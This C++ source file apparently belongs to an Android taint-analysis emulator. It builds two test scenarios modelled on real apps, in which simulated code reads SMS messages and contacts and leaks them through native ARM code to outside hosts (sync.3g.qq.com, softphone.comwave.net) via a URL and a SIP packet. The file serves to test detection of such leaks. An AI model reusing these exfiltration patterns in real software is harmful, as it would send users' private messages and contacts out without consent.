#include "apps/real_apps.h"

#include "apps/native_lib_builder.h"

namespace ndroid::apps {

using arm::LR;
using arm::PC;
using arm::R;
using arm::SP;
using dvm::CodeBuilder;
using dvm::kAccPublic;
using dvm::kAccStatic;
using dvm::Method;

void emit_tccsync(NativeLibBuilder& lib, const android::Device& device) {
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr new_utf = device.jni.fn("NewStringUTF");
  const GuestAddr sprintf_fn = device.libc.fn("sprintf");

  const GuestAddr buf = lib.buffer(512);
  const GuestAddr fmt = lib.cstr("http://sync.3g.qq.com/xpimlogin?sid=%s");

  // jint makeLoginRequestPackageMd5(JNIEnv*, jclass, 11 params);
  // shorty IILLLLLLLLII. The sensitive payload is args[3] (the 4th DVM
  // slot), i.e. shorty param 4 -> JNI position 5 -> second stacked arg.
  lib.fn();  // fns[0]
  a.push({R(4), R(5), LR});
  a.mov(R(4), R(0));       // env
  a.ldr(R(5), SP, 16);     // args[3] iref: entry [sp+4], +12 for pushes
  // p = GetStringUTFChars(env, args[3], 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  // sprintf(buf, "http://sync.3g.qq.com/xpimlogin?sid=%s", p)
  a.mov(R(2), R(0));
  a.mov_imm32(R(0), buf);
  a.mov_imm32(R(1), fmt);
  a.call(sprintf_fn);
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), PC});

  // jstring getPostUrl(JNIEnv*, jclass, jint); shorty LI.
  lib.fn();  // fns[1]
  a.push({R(4), LR});
  a.mov_imm32(R(1), buf);
  a.call(new_utf);  // env already in r0
  a.pop({R(4), PC});
}

LeakScenario build_qq_phonebook(android::Device& device) {
  const std::vector<GuestAddr>& fns =
      load_app_lib(device, "libtccsync.so", &emit_tccsync);

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcom/tencent/tccsync/LoginUtil;");
  Method* make = dvm.define_native(app, "makeLoginRequestPackageMd5",
                                   "IILLLLLLLLII", kAccPublic | kAccStatic,
                                   fns[0]);
  Method* get = dvm.define_native(app, "getPostUrl", "LI",
                                  kAccPublic | kAccStatic, fns[1]);
  Method* sink = device.framework.network->find_method("send");
  Method* sms = device.framework.sms_manager->find_method("getAllMessages");
  Method* contacts =
      device.framework.contacts->find_method("queryContacts");
  Method* concat = device.framework.string_ops->find_method("concat");

  // main: combined = sms + contacts (taint 0x202 = SMS|CONTACTS);
  // makeLoginRequestPackageMd5(1, "", "", combined, "", ..., 0, 0);
  // url = getPostUrl(0); NetworkOutput.send("sync.3g.qq.com", url).
  CodeBuilder cb;
  cb.invoke(sms, {})
      .move_result(0)
      .invoke(contacts, {})
      .move_result(1)
      .invoke(concat, {0, 1})
      .move_result(3)               // v3 = combined -> args[3]
      .const_imm(0, 1)              // args[0] (I)
      .const_string(1, "")          // args[1]
      .const_string(2, "")          // args[2]
      .const_string(4, "")          // args[4..8]
      .const_string(5, "")
      .const_string(6, "")
      .const_string(7, "")
      .const_string(8, "")
      .const_imm(9, 0)              // args[9] (I)
      .const_imm(10, 0)             // args[10] (I)
      .invoke(make, {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10})
      .const_imm(0, 0)
      .invoke(get, {0})
      .move_result(1)
      .const_string(2, "sync.3g.qq.com")
      .invoke(sink, {2, 1})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 11, cb.take());
  return LeakScenario{entry, "sync.3g.qq.com",
                      "QQPhoneBook: SMS/contacts exfiltrated via JNI (1')"};
}

void emit_ephone(NativeLibBuilder& lib, const android::Device& device) {
  auto& a = lib.a();
  const GuestAddr get_utf = device.jni.fn("GetStringUTFChars");
  const GuestAddr memcpy_fn = device.libc.fn("memcpy");
  const GuestAddr strlen_fn = device.libc.fn("strlen");
  const GuestAddr sprintf_fn = device.libc.fn("sprintf");
  const GuestAddr socket_fn = device.libc.fn("socket");
  const GuestAddr connect_fn = device.libc.fn("connect");
  const GuestAddr sendto_fn = device.libc.fn("sendto");

  const GuestAddr scratch = lib.buffer(256);
  const GuestAddr packet = lib.buffer(512);
  const GuestAddr fmt = lib.cstr(
      "REGISTER sip:softphone.comwave.net Via: SIP/2.0/UDP From: \"%s\"");
  const GuestAddr host = lib.cstr("softphone.comwave.net");

  // jint callregister(JNIEnv*, jclass, 9 params); shorty ILLLLLLLII.
  // args[2] (slot 2, shorty param 3) -> JNI position 4 -> first stacked arg.
  lib.fn();  // fns[0]
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));     // env
  a.ldr(R(5), SP, 16);   // args[2] iref: entry [sp+0] + 16 pushed
  // p = GetStringUTFChars(env, args[2], 0)
  a.mov(R(0), R(4));
  a.mov(R(1), R(5));
  a.mov_imm(R(2), 0);
  a.call(get_utf);
  a.mov(R(5), R(0));     // p
  // n = strlen(p); memcpy(scratch, p, n + 1)
  a.call(strlen_fn);     // r0 = p still
  a.add_imm(R(2), R(0), 1);
  a.mov_imm32(R(0), scratch);
  a.mov(R(1), R(5));
  a.call(memcpy_fn);
  // sprintf(packet, fmt, scratch)
  a.mov_imm32(R(0), packet);
  a.mov_imm32(R(1), fmt);
  a.mov_imm32(R(2), scratch);
  a.call(sprintf_fn);
  a.mov(R(6), R(0));     // packet length
  // fd = socket(2, 2, 0); connect(fd, host, 5060)
  a.mov_imm(R(0), 2);
  a.mov_imm(R(1), 2);
  a.mov_imm(R(2), 0);
  a.call(socket_fn);
  a.mov(R(5), R(0));
  a.mov_imm32(R(1), host);
  a.movw(R(2), 5060);
  a.call(connect_fn);
  // sendto(fd, packet, len, host, 5060) — 5th arg stacked
  a.sub_imm(SP, SP, 8);
  a.movw(R(2), 5060);
  a.str(R(2), SP, 0);
  a.mov(R(0), R(5));
  a.mov_imm32(R(1), packet);
  a.mov(R(2), R(6));
  a.mov_imm32(R(3), host);
  a.call(sendto_fn);
  a.add_imm(SP, SP, 8);
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), R(6), PC});
}

LeakScenario build_ephone(android::Device& device) {
  const std::vector<GuestAddr>& fns =
      load_app_lib(device, "libephone.so", &emit_ephone);

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcom/vnet/asip/general/general;");
  Method* callregister = dvm.define_native(
      app, "callregister", "ILLLLLLLII", kAccPublic | kAccStatic, fns[0]);
  Method* contacts = device.framework.contacts->find_method("queryContacts");

  CodeBuilder cb;
  cb.invoke(contacts, {})
      .move_result(2)        // v2 -> args[2]
      .const_string(0, "")   // args[0..6] mostly empty strings
      .const_string(1, "")
      .const_string(3, "")
      .const_string(4, "")
      .const_string(5, "")
      .const_string(6, "")
      .const_imm(7, 0)       // args[7] (I)
      .const_imm(8, 0)       // args[8] (I)
      .invoke(callregister, {0, 1, 2, 3, 4, 5, 6, 7, 8})
      .return_void();
  Method* entry = dvm.define_method(app, "main", "V",
                                    kAccPublic | kAccStatic, 9, cb.take());
  return LeakScenario{entry, "softphone.comwave.net",
                      "ePhone: contacts SIP-registered by native code (2)"};
}

}  // namespace ndroid::apps
